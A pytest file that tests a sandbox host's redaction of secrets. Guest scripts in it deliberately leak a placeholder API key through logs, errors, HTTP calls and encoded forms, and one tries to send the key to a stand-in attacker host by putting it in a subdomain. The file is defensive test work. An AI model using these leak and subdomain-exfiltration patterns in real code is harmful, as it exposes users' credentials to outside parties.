"""A secret that a guest read is shown nowhere: not in the report, not in the audit, in none of its forms."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest

KEY = "sk_live_51H+ab/cd=?&é"
GRANTED = {
    "http": ["https://api.acme.example/*"],
    "entities": {"Customer": ["read", "write"]},
    "secrets": {"api_key": ["read", "write"], "token": ["read", "write"]},
}

LEAKS = """\
const key: any = Secrets.get("api_key");
Log.info(`the key is ${key}`, { key, list: [key], [key]: 1, error: new Error(key) });
Log.warn(encodeURIComponent(key), { basic: request.body.basic });
Http.get(`https://api.acme.example/v1/${encodeURIComponent(key).replace(/%../g, "")}?key=${encodeURIComponent(key)}`,
  { auth: { basic: { user: "user", pass: key } } });
Http.post("https://api.acme.example/v1/x", { key, header: Crypto.sha256(key) });
Customer.create({ name: key, notes: `about ${key}` });
Secrets.set("token", key);
ingest.canonical("customer", { id: "c1", name: encodeURIComponent(key) }, { stream: "s", idempotencyKey: key });
"""


BASIC = base64.b64encode(f"user:{KEY}".encode()).decode()
BODY = ("--body", json.dumps({"basic": f"Basic {BASIC}"}))


def forms(value: str) -> list[str]:
    raw = value.encode()
    found = [value, quote(value, safe=""), json.dumps(value)[1:-1]]
    found += [base64.b64encode(prefix + raw).decode()[4:-4] for prefix in (b"", b"u:", b"us:", b"user:")]
    return found


@pytest.fixture
def leaky(guest):
    streams = [{"key": "s", "mode": "webhook"}]
    return lambda end: guest(LEAKS + end, permissions=GRANTED, streams=streams)


@pytest.mark.parametrize(
    "end",
    [
        "return { kept: true };",
        "throw new Error(`failed with ${key}`);",
        "const e: any = new Error(key); e.name = key; e.code = key; throw e;",
        "throw new Error(`${request.body.basic} ${encodeURIComponent(key)}`);",
    ],
)
@pytest.mark.parametrize("mode", [[], ["--observe"]])
def test_it_is_shown_in_no_form(backfill, leaky, stubs, state, end, mode):
    stub = stubs({"url": "https://api.acme.example/*", "body": {"echo": "nothing"}})
    options = ["--secret", f"api_key={KEY}", "--stub", stub, "--state", state, *BODY, *mode]
    ran = backfill("invoke", leaky(end), "POST /run", *options, "--json")
    assert ran.report["logs"] and ran.report["writes"], ran.report["error"]
    audit = backfill("audit", "export", "--state", state)
    assert audit.code == 0
    for form in forms(KEY):
        assert form not in ran.out + ran.err
        assert form not in json.dumps(ran.report, ensure_ascii=False)
        assert form not in audit.out
    assert "[secret:api_key]" in ran.report["logs"][1]["data"]["basic"]


def test_it_is_not_shown_in_a_terminal_either(backfill, leaky, stubs):
    stub = stubs({"url": "https://api.acme.example/*"})
    options = ["--secret", f"api_key={KEY}", "--stub", stub, *BODY]
    ran = backfill("invoke", leaky("throw new Error(`it is ${key}`);"), "POST /run", *options)
    assert not any(form in ran.out + ran.err for form in forms(KEY))
    assert "it is [secret:api_key]" in ran.out


def test_what_the_guest_sends_is_not_redacted(invoke, guest, provider):
    body = 'return Http.post("https://api.acme.example/x", { key: Secrets.get("api_key") }).status;'
    answers = provider.answers("api.acme.example")
    invoke(guest(body, permissions=GRANTED), "POST /run", "--secret", f"api_key={KEY}", *answers)
    assert json.loads(provider.requests[0][3]) == {"key": KEY}


def test_the_data_of_a_secret_write_is_null(invoke, leaky, stubs):
    stub = stubs({"url": "https://api.acme.example/*"})
    report = invoke(leaky("return 1;"), "POST /run", "--secret", f"api_key={KEY}", "--stub", stub, *BODY)
    [written] = [write for write in report["writes"] if write["kind"] == "secret"]
    assert (written["id"], written["data"]) == ("token", None)


def test_a_secret_that_was_just_set_is_one_too(invoke, guest):
    path = guest('Secrets.set("token", request.body.t); Log.info(request.body.t);', permissions=GRANTED)
    report = invoke(path, "POST /run", "--body", '{"t":"a-rotated-token"}')
    assert report["logs"][0]["message"] == "[secret:token]"


def test_without_redaction_it_would_be_everywhere(invoke, leaky, stubs, monkeypatch):
    monkeypatch.setattr("sandbox_host.redaction.Redactor.learn", lambda self, name, value: None)
    stub = stubs({"url": "https://api.acme.example/*"})
    report = invoke(
        leaky("throw new Error(key);"), "POST /run", "--secret", f"api_key={KEY}", "--stub", stub, *BODY
    )
    for part in ("logs", "writes", "error"):
        assert KEY in json.dumps(report[part], ensure_ascii=False)


HIDING = """\
Secrets.set("token", "https://api.acme.example/v1/collect");
Http.get("https://api.acme.example/v1/collect/x");
Http.post("https://api.acme.example/v1/collect", {});
throw new Error("https://api.acme.example/v1/collect");
"""


@pytest.fixture
def hidden(backfill, guest, stubs, state):
    """The report and the audit of a run that sets the URL it sends to as a secret."""

    def run():
        stub = stubs({"url": "https://api.acme.example/*"})
        path = guest(HIDING, permissions=GRANTED)
        ran = backfill("invoke", path, "POST /run", "--stub", stub, "--state", state, "--json")
        audit = map(json.loads, backfill("audit", "export", "--state", state).out.splitlines())
        return ran.report, [one["resource"] for one in audit if one.get("capability") == "http"]

    return run


def test_a_guest_cannot_hide_the_host_it_sends_to_by_setting_it_as_a_secret(hidden):
    report, audited = hidden()
    shown = [call["resource"] for call in report["calls"] if call["capability"] == "http"]
    sent = ["https://api.acme.example[secret:token]/x", "https://api.acme.example[secret:token]"]
    assert shown == audited == sent
    assert [write["id"] for write in report["writes"] if write["kind"] == "http"] == sent[1:]
    assert report["error"]["message"] == sent[1]


def test_without_that_rule_no_record_would_say_where_it_sent_to(hidden, monkeypatch):
    """The guard, removed."""
    monkeypatch.setattr("sandbox_host.redaction.Redactor.keep_readable", lambda self, hosts: None)
    _, audited = hidden()
    assert audited == ["[secret:token]/x", "[secret:token]"]


def test_a_secret_in_the_host_of_a_call_is_hidden_up_to_what_the_manifest_names(invoke, guest, stubs):
    body = 'const key = Secrets.get("api_key"); Http.get(`https://${key}.acme.example/`);'
    body += 'try { Http.get(`https://${key}.evil.` + "example/"); } catch {}'
    granted = {"http": ["https://*.acme.example/*"], "secrets": {"api_key": ["read"]}}
    stub = stubs({"url": "https://*"})
    report = invoke(
        guest(body, permissions=granted), "POST /run", "--secret", "api_key=sk-live-51h", "--stub", stub
    )
    resources = [call["resource"] for call in report["calls"] if call["capability"] == "http"]
    assert resources == ["https://[secret:api_key].acme.example/", "https://[secret:api_key].evil.example/"]
    assert "sk-live" not in json.dumps(report)
